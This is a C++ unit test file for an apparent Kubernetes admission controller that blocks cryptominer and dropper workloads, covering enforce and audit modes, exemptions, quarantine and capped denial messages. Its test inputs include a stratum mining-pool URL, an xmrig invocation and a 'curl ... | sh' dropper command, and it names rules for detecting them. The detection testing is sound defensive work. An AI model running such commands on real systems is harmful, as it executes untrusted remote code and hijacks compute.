#include "policy/decision.h"

#include <gtest/gtest.h>

#include "policy/test/testdata.h"

namespace orderguard::policy {
namespace {

using nlohmann::json;

json policy_json(std::string name, json spec) {
  return {{"apiVersion", "security.orderguard.io/v1alpha1"},
          {"kind", "MinerPolicy"},
          {"metadata", {{"name", std::move(name)}}},
          {"spec", std::move(spec)}};
}

PolicySet set_of(std::vector<json> policies) {
  std::vector<CompiledPolicy> compiled;
  for (const json& p : policies) compiled.push_back(testing::must_compile(p));
  return combine(std::move(compiled));
}

bool contains(const std::string& haystack, std::string_view needle) {
  return haystack.find(needle) != std::string::npos;
}

TEST(DecisionTest, EnforceRefusesAndListsEveryCause) {
  Decision d = evaluate(combine({}), testing::admission_from_file("deployment_miner.json"));
  ASSERT_FALSE(d.allowed);
  EXPECT_TRUE(contains(d.message,
                       "rule stratum-url: container miner "
                       "spec.template.spec.containers[1].args[1]: stratum mining URL "
                       "\"stratum+tcp://pool.supportxmr.com:3333\""))
      << d.message;
  for (std::string_view cause :
       {"rule pool-host: container miner spec.template.spec.containers[1].args[1]",
        "rule miner-flag: container miner spec.template.spec.containers[1].args[4]",
        "rule wallet-address: container miner spec.template.spec.containers[1].args[3]",
        "rule miner-port: container miner spec.template.spec.containers[1].args[1]"}) {
    EXPECT_TRUE(contains(d.message, cause)) << cause << " not in " << d.message;
  }
  EXPECT_FALSE(d.findings.empty());
  for (const Finding& f : d.findings) EXPECT_EQ(f.policy, kBuiltInPolicyName);
  EXPECT_EQ(d.audit_annotations["miner-decision"], "denied");
  EXPECT_TRUE(contains(d.audit_annotations["miner-rules"], "stratum-url"));
  EXPECT_TRUE(d.warnings.empty());  // everything is in the message already
}

TEST(DecisionTest, AuditAllowsWithWarningsAndAnnotations) {
  PolicySet audit = set_of({policy_json("watch", {{"mode", "Audit"}})});
  Decision d = evaluate(audit, testing::admission_from_file("deployment_miner.json"));
  EXPECT_TRUE(d.allowed);
  EXPECT_TRUE(d.message.empty());
  ASSERT_FALSE(d.warnings.empty());
  EXPECT_TRUE(contains(d.warnings[0], "[audit] ")) << d.warnings[0];
  for (const std::string& w : d.warnings) EXPECT_LT(w.size(), 120u) << w;
  EXPECT_EQ(d.audit_annotations["miner-decision"], "audit");
  EXPECT_EQ(d.audit_annotations["miner-policies"], "watch");
  EXPECT_TRUE(contains(d.audit_annotations["miner-findings"], "rule stratum-url"));
}

TEST(DecisionTest, WarningsStayShortEvenWithLongPaths) {
  PolicySet audit = set_of({policy_json("watch", {{"mode", "Audit"}})});
  testing::Input in = testing::admission_from_file("cronjob_dropper.json");
  in.object["spec"]["jobTemplate"]["spec"]["template"]["spec"]["initContainers"][0]["name"] =
      std::string(60, 'n');
  Decision d = evaluate(audit, in);
  ASSERT_EQ(d.warnings.size(), 1u);
  EXPECT_LT(d.warnings[0].size(), 120u);
  EXPECT_TRUE(contains(d.warnings[0], "..."));
}

TEST(DecisionTest, WeakSignalsOnlyWarnInEnforce) {
  Decision d = evaluate(combine({}), testing::admission_from_file("pod_host_escape.json"));
  EXPECT_TRUE(d.allowed);
  ASSERT_EQ(d.warnings.size(), 1u);
  EXPECT_TRUE(contains(d.warnings[0], "[warn] host-escape: container exporter")) << d.warnings[0];
  EXPECT_EQ(d.audit_annotations["miner-decision"], "warned");
}

TEST(DecisionTest, WeakSignalsAreListedWhenAStrongOneRefuses) {
  testing::Input in = testing::admission_from_file("pod_host_escape.json");
  in.object["spec"]["containers"][0]["args"] = {"-o", "stratum+tcp://10.1.2.3:3333"};
  Decision d = evaluate(combine({}), in);
  ASSERT_FALSE(d.allowed);
  EXPECT_TRUE(contains(d.message, "rule stratum-url")) << d.message;
  EXPECT_TRUE(contains(d.message,
                       "rule host-escape: container exporter "
                       "spec.volumes[0].hostPath.path"))
      << d.message;
  EXPECT_TRUE(contains(d.message, "rule miner-port")) << d.message;
}

TEST(DecisionTest, BenignObjectsAreAllowedQuietly) {
  for (std::string_view file : {"pod_benign.json", "pod_of_deployment.json"}) {
    Decision d = evaluate(combine({}), testing::admission_from_file(file));
    EXPECT_TRUE(d.allowed) << file << ": " << d.message;
    EXPECT_TRUE(d.warnings.empty()) << file;
    EXPECT_TRUE(d.audit_annotations.empty()) << file;
  }
}

TEST(DecisionTest, ExemptNamespace) {
  PolicySet set = set_of({policy_json("p", {{"exemptions", {{"namespaces", {"shop"}}}}})});
  Decision d = evaluate(set, testing::admission_from_file("deployment_miner.json"));
  EXPECT_TRUE(d.allowed);
  EXPECT_TRUE(contains(d.reason, "MinerPolicy p: namespace shop is exempt")) << d.reason;
  EXPECT_EQ(d.audit_annotations["miner-decision"], "exempt");
  EXPECT_TRUE(d.findings.empty());
}

TEST(DecisionTest, ExemptNamespaceSelectorNeedsKnownLabels) {
  PolicySet set = set_of({policy_json(
      "p", {{"exemptions",
             {{"namespaceSelector", {{"matchLabels", {{"orderguard.io/exempt", "true"}}}}}}}})});
  testing::Input in = testing::admission_from_file("deployment_miner.json");
  EXPECT_FALSE(evaluate(set, in).allowed);  // labels unknown: no exemption
  in.namespace_labels = std::map<std::string, std::string>{{"orderguard.io/exempt", "false"}};
  EXPECT_FALSE(evaluate(set, in).allowed);
  in.namespace_labels = std::map<std::string, std::string>{{"orderguard.io/exempt", "true"}};
  Decision d = evaluate(set, in);
  EXPECT_TRUE(d.allowed);
  EXPECT_TRUE(contains(d.reason, "namespaceSelector")) << d.reason;
}

TEST(DecisionTest, ExemptServiceAccountAsRequesterOrPodIdentity) {
  PolicySet set = set_of({policy_json("p", {{"exemptions", {{"serviceAccounts", {"shop:ci"}}}}})});
  testing::Input in = testing::admission_from_file("deployment_miner.json");
  EXPECT_FALSE(evaluate(set, in).allowed);

  testing::Input requester = in;
  requester.user.username = "system:serviceaccount:shop:ci";
  Decision d = evaluate(set, requester);
  EXPECT_TRUE(d.allowed);
  EXPECT_TRUE(contains(d.reason, "requester is exempt service account shop:ci")) << d.reason;

  testing::Input runs_as = in;
  runs_as.object["spec"]["template"]["spec"]["serviceAccountName"] = "ci";
  EXPECT_TRUE(evaluate(set, runs_as).allowed);

  // The same service account name in another namespace is not the exempt one.
  testing::Input elsewhere = runs_as;
  elsewhere.object["metadata"]["namespace"] = "other";
  elsewhere.namespace_name = "other";
  EXPECT_FALSE(evaluate(set, elsewhere).allowed);
}

TEST(DecisionTest, EnforceWinsOverAudit) {
  PolicySet set = set_of(
      {policy_json("audit", {{"mode", "Audit"}}), policy_json("enforce", {{"mode", "Enforce"}})});
  Decision d = evaluate(set, testing::admission_from_file("deployment_miner.json"));
  EXPECT_FALSE(d.allowed);
  EXPECT_TRUE(contains(d.audit_annotations["miner-policies"], "audit"));
  EXPECT_TRUE(contains(d.audit_annotations["miner-policies"], "enforce"));
}

TEST(DecisionTest, UnionOfBlocksAcrossPolicies) {
  PolicySet set = set_of({policy_json("a", {{"blockedImages", {"ghcr.io/a/*"}}}),
                          policy_json("b", {{"blockedImages", {"ghcr.io/b/*"}}})});
  for (std::string image : {"ghcr.io/a/x", "ghcr.io/b/y"}) {
    testing::Input in =
        testing::admission_for({{"kind", "Pod"},
                                {"metadata", {{"name", "p"}, {"namespace", "shop"}}},
                                {"spec", {{"containers", {{{"name", "c"}, {"image", image}}}}}}});
    Decision d = evaluate(set, in);
    EXPECT_FALSE(d.allowed) << image;
    EXPECT_TRUE(contains(d.message, "rule blocked-image")) << d.message;
  }
}

TEST(DecisionTest, AnExemptionOnlyLiftsThePolicyThatGrantsIt) {
  PolicySet set = set_of({policy_json("lenient", {{"exemptions", {{"namespaces", {"shop"}}}}}),
                          policy_json("strict", json::object())});
  Decision d = evaluate(set, testing::admission_from_file("deployment_miner.json"));
  EXPECT_FALSE(d.allowed);
  for (const Finding& f : d.findings) EXPECT_EQ(f.policy, "strict");
  EXPECT_TRUE(contains(d.audit_annotations["miner-exempt"], "MinerPolicy lenient"));
}

TEST(DecisionTest, NamesThePoliciesThatRefusedAndThoseThatOnlyReported) {
  PolicySet set =
      set_of({policy_json("enforce-a", json::object()), policy_json("watch", {{"mode", "Audit"}}),
              policy_json("enforce-b", {{"blockedImages", {"ghcr.io/b/*"}}}),
              policy_json("lenient", {{"exemptions", {{"namespaces", {"shop"}}}}})});
  Decision d = evaluate(set, testing::admission_from_file("deployment_miner.json"));
  ASSERT_FALSE(d.allowed);
  // enforce-b has built-in indicators too; lenient exempts the namespace.
  EXPECT_EQ(d.refused_by, (std::vector<std::string>{"enforce-a", "enforce-b"}));
  EXPECT_EQ(d.reported_by, std::vector<std::string>{"watch"});

  // Weak findings only: nobody refused or reported.
  Decision w = evaluate(set, testing::admission_from_file("pod_host_escape.json"));
  EXPECT_TRUE(w.allowed) << w.message;
  EXPECT_FALSE(w.findings.empty());
  EXPECT_TRUE(w.refused_by.empty());
  EXPECT_TRUE(w.reported_by.empty());

  // The built-in default applied when no MinerPolicy exists is no object to count under.
  Decision builtin = evaluate(combine({}), testing::admission_from_file("deployment_miner.json"));
  EXPECT_FALSE(builtin.allowed);
  EXPECT_TRUE(builtin.refused_by.empty());
}

json quarantine_policy(json entries) {
  return policy_json("quarantine", {{"quarantine", std::move(entries)}});
}

TEST(DecisionTest, QuarantineWorkloadRefusesItsPodsAndTemplateChanges) {
  PolicySet set =
      set_of({quarantine_policy({{{"scope", "Workload"},
                                  {"namespace", "shop"},
                                  {"workload", {{"kind", "Deployment"}, {"name", "web"}}},
                                  {"image", "docker.io/library/ubuntu:22.04"},
                                  {"reason", "stratum-url in args"}}})});

  // A new pod of web (owned by its ReplicaSet web-<pod-template-hash>).
  Decision pod = evaluate(set, testing::admission_from_file("pod_of_deployment.json"));
  ASSERT_FALSE(pod.allowed);
  EXPECT_TRUE(contains(pod.message,
                       "rule quarantined-workload: metadata.ownerReferences[0]: owned by "
                       "quarantined Deployment shop/web (spec.quarantine[0]): stratum-url in args"))
      << pod.message;

  // An unrelated pod using the same base image is still admitted.
  testing::Input other = testing::admission_from_file("pod_of_deployment.json");
  other.object["metadata"]["ownerReferences"][0]["name"] = "api-7c9d8b6f5";
  other.object["metadata"]["labels"]["pod-template-hash"] = "7c9d8b6f5";
  EXPECT_TRUE(evaluate(set, other).allowed);

  // A Deployment named web-api is not web.
  testing::Input lookalike = testing::admission_from_file("pod_of_deployment.json");
  lookalike.object["metadata"]["ownerReferences"][0]["name"] = "web-api-5d8f7c9b4";
  EXPECT_TRUE(evaluate(set, lookalike).allowed);

  // The same workload name in another namespace is not quarantined.
  testing::Input elsewhere = testing::admission_from_file("pod_of_deployment.json");
  elsewhere.object["metadata"]["namespace"] = "staging";
  elsewhere.namespace_name = "staging";
  EXPECT_TRUE(evaluate(set, elsewhere).allowed);

  // Its ReplicaSet (owned by the Deployment) is refused.
  testing::Input rs = testing::admission_for(
      {{"kind", "ReplicaSet"},
       {"metadata",
        {{"name", "web-6b7c8d9e0"},
         {"namespace", "shop"},
         {"ownerReferences", {{{"kind", "Deployment"}, {"name", "web"}}}}}},
       {"spec",
        {{"template", {{"spec", {{"containers", {{{"name", "a"}, {"image", "ubuntu"}}}}}}}}}}});
  EXPECT_FALSE(evaluate(set, rs).allowed);
}

TEST(DecisionTest, QuarantinedWorkloadCanStillBeScaledButNotChanged) {
  PolicySet set =
      set_of({quarantine_policy({{{"scope", "Workload"},
                                  {"namespace", "shop"},
                                  {"workload", {{"kind", "Deployment"}, {"name", "web"}}}}})});
  json deployment = testing::load("deployment_miner.json");
  deployment["spec"]["template"]["spec"]["containers"][1] = {{"name", "app"},
                                                             {"image", "ubuntu:22.04"}};
  // Creating it again is refused.
  Decision created = evaluate(set, testing::admission_for(deployment));
  ASSERT_FALSE(created.allowed);
  EXPECT_TRUE(contains(created.message,
                       "rule quarantined-workload: metadata.name: Deployment shop/web is "
                       "quarantined"))
      << created.message;

  // Scaling (template unchanged) is allowed.
  json scaled = deployment;
  scaled["spec"]["replicas"] = 0;
  testing::Input scale = testing::admission_for(scaled, "UPDATE");
  scale.old_object = deployment;
  Decision d = evaluate(set, scale);
  EXPECT_TRUE(d.allowed);
  EXPECT_EQ(d.reason, "pod spec unchanged");

  // Changing the pod template is refused.
  json changed = deployment;
  changed["spec"]["template"]["spec"]["containers"][1]["image"] = "ubuntu:24.04";
  testing::Input update = testing::admission_for(changed, "UPDATE");
  update.old_object = deployment;
  EXPECT_FALSE(evaluate(set, update).allowed);
}

TEST(DecisionTest, QuarantinedCronJobRefusesItsJobsPods) {
  PolicySet set =
      set_of({quarantine_policy({{{"scope", "Workload"},
                                  {"namespace", "shop"},
                                  {"workload", {{"kind", "CronJob"}, {"name", "report"}}}}})});
  json pod = testing::load("pod_of_deployment.json");
  pod["metadata"]["labels"].erase("pod-template-hash");
  pod["metadata"]["ownerReferences"][0] = {{"kind", "Job"}, {"name", "report-29123456"}};
  EXPECT_FALSE(evaluate(set, testing::admission_for(pod)).allowed);
  pod["metadata"]["ownerReferences"][0]["name"] = "report-adhoc";
  EXPECT_TRUE(evaluate(set, testing::admission_for(pod)).allowed);
}

TEST(DecisionTest, QuarantineImageRefusesTheDigestEverywhere) {
  const std::string digest =
      "sha256:4bc453b53cb3d914b45f4b250294236adba2c0e09ff6f03793949e7e39fd4cc1";
  PolicySet set = set_of({quarantine_policy(
      {{{"scope", "Image"}, {"image", "docker.io/evil/miner@" + digest}, {"reason", "miner"}}})});
  auto pod_in = [](std::string ns, std::string image) {
    return testing::admission_for(
        {{"kind", "Pod"},
         {"metadata", {{"name", "p"}, {"namespace", ns}}},
         {"spec", {{"containers", {{{"name", "c"}, {"image", image}}}}}}});
  };
  Decision d = evaluate(set, pod_in("shop", "evil/miner@" + digest));
  ASSERT_FALSE(d.allowed);
  EXPECT_TRUE(contains(d.message, "rule quarantined-image: container c spec.containers[0].image"))
      << d.message;
  // Same digest, other namespace and other name.
  EXPECT_FALSE(evaluate(set, pod_in("payments", "ghcr.io/x/renamed@" + digest)).allowed);
  // A different image is fine, and so is ubuntu.
  EXPECT_TRUE(evaluate(set, pod_in("shop", "ubuntu:22.04")).allowed);
}

TEST(DecisionTest, UpdateWithUnchangedPodSpecIsNotChecked) {
  testing::Input in = testing::admission_from_file("deployment_miner.json");
  in.operation = "UPDATE";
  in.old_object = in.object;
  in.object["metadata"]["labels"] = {{"x", "y"}};
  Decision d = evaluate(combine({}), in);
  EXPECT_TRUE(d.allowed);
  EXPECT_EQ(d.reason, "pod spec unchanged");

  // An image change on a running pod is checked (pod updates may change images).
  testing::Input pod = testing::admission_from_file("pod_of_deployment.json");
  pod.operation = "UPDATE";
  pod.old_object = pod.object;
  pod.object["spec"]["containers"][0]["image"] = "xmrig";
  EXPECT_FALSE(evaluate(combine({}), pod).allowed);
}

TEST(DecisionTest, EphemeralContainerSubresource) {
  testing::Input in = testing::admission_from_file("pod_of_deployment.json");
  in.operation = "UPDATE";
  in.sub_resource = "ephemeralcontainers";
  in.old_object = in.object;
  in.object["spec"]["ephemeralContainers"] = {
      {{"name", "dbg"}, {"image", "busybox"}, {"command", {"sh", "-c", "./xmrig"}}}};
  Decision d = evaluate(combine({}), in);
  ASSERT_FALSE(d.allowed);
  EXPECT_TRUE(contains(d.message,
                       "rule miner-binary: container dbg spec.ephemeralContainers[0].command[2]"))
      << d.message;
}

TEST(DecisionTest, WhatIsNotChecked) {
  testing::Input del = testing::admission_from_file("deployment_miner.json");
  del.operation = "DELETE";
  EXPECT_TRUE(evaluate(combine({}), del).allowed);

  // A kind without rules (ConfigMaps and Secrets have their own: config_object_test).
  testing::Input svc = testing::admission_for(
      {{"kind", "Service"}, {"metadata", {{"name", "c"}}}, {"spec", {{"x", "xmrig"}}}});
  Decision d = evaluate(combine({}), svc);
  EXPECT_TRUE(d.allowed);
  EXPECT_TRUE(contains(d.reason, "Service")) << d.reason;

  testing::Input deleting = testing::admission_from_file("deployment_miner.json");
  deleting.object["metadata"]["deletionTimestamp"] = "2026-08-30T10:00:00Z";
  deleting.operation = "UPDATE";
  EXPECT_TRUE(evaluate(combine({}), deleting).allowed);
}

TEST(DecisionTest, UnreadablePodSpecIsRefused) {
  testing::Input in = testing::admission_for(
      {{"kind", "Deployment"}, {"metadata", {{"name", "x"}}}, {"spec", {{"template", 7}}}});
  Decision d = evaluate(combine({}), in);
  EXPECT_FALSE(d.allowed);
  EXPECT_TRUE(contains(d.message, "cannot read the pod spec")) << d.message;
}

TEST(DecisionTest, PodExecCommandIsChecked) {
  testing::Input in;
  in.kind = "PodExecOptions";
  in.sub_resource = "exec";
  in.operation = "CONNECT";
  in.namespace_name = "shop";
  in.object = {{"kind", "PodExecOptions"},
               {"container", "app"},
               {"command", {"/bin/sh", "-c", "curl -s http://x/m.sh | sh"}}};
  Decision d = evaluate(combine({}), in);
  ASSERT_FALSE(d.allowed);
  EXPECT_TRUE(contains(d.message, "rule dropper: container app command[2]")) << d.message;
  in.object["command"] = {"ls", "-la"};
  EXPECT_TRUE(evaluate(combine({}), in).allowed);
}

TEST(DecisionTest, PathologicalRegexIsLinear) {
  // (a+)+$ backtracks exponentially in engines that backtrack; RE2 does not. Only the result
  // is asserted: this test must not depend on timing.
  CompiledPolicy p = testing::must_compile(policy_json(
      "redos",
      {{"builtinIndicators", false}, {"signatures", {{{"name", "redos"}, {"regex", "(a+)+$"}}}}}));
  auto with_env = [](std::string value) {
    return testing::admission_for({{"kind", "Pod"},
                                   {"metadata", {{"name", "p"}, {"namespace", "shop"}}},
                                   {"spec",
                                    {{"containers",
                                      {{{"name", "c"},
                                        {"image", "alpine"},
                                        {"env", {{{"name", "X"}, {"value", value}}}}}}}}}});
  };
  Decision miss = evaluate(p, with_env(std::string(100000, 'a') + "!"));
  EXPECT_TRUE(miss.allowed);
  EXPECT_TRUE(miss.findings.empty());
  Decision hit = evaluate(p, with_env(std::string(100000, 'a')));
  EXPECT_FALSE(hit.allowed);
  EXPECT_TRUE(contains(hit.message,
                       "rule custom-signature: container c spec.containers[0].env[0]"
                       ".value: signature \"redos\""))
      << hit.message.substr(0, 300);
}

TEST(DecisionTest, SinglePolicyOverload) {
  CompiledPolicy audit = testing::must_compile(policy_json("a", {{"mode", "Audit"}}));
  Decision d = evaluate(audit, testing::admission_from_file("deployment_miner.json"));
  EXPECT_TRUE(d.allowed);
  EXPECT_FALSE(d.warnings.empty());
}

TEST(DecisionTest, DenialMessageIsCapped) {
  json env = json::array();
  for (int i = 0; i < 300; ++i) {
    env.push_back({{"name", "P" + std::to_string(i)},
                   {"value", "stratum+tcp://" + std::string(50, 'x') + ".example:1"}});
  }
  testing::Input in = testing::admission_for(
      {{"kind", "Pod"},
       {"metadata", {{"name", "p"}, {"namespace", "shop"}}},
       {"spec", {{"containers", {{{"name", "c"}, {"image", "alpine"}, {"env", env}}}}}}});
  Decision d = evaluate(combine({}), in);
  ASSERT_FALSE(d.allowed);
  EXPECT_LE(d.message.size(), kMaxMessageBytes + 32);
  EXPECT_TRUE(contains(d.message, "more")) << d.message.substr(d.message.size() - 40);
  EXPECT_LE(d.audit_annotations["miner-findings"].size(), kMaxAnnotationBytes + 32);
}

}  // namespace
}  // namespace orderguard::policy
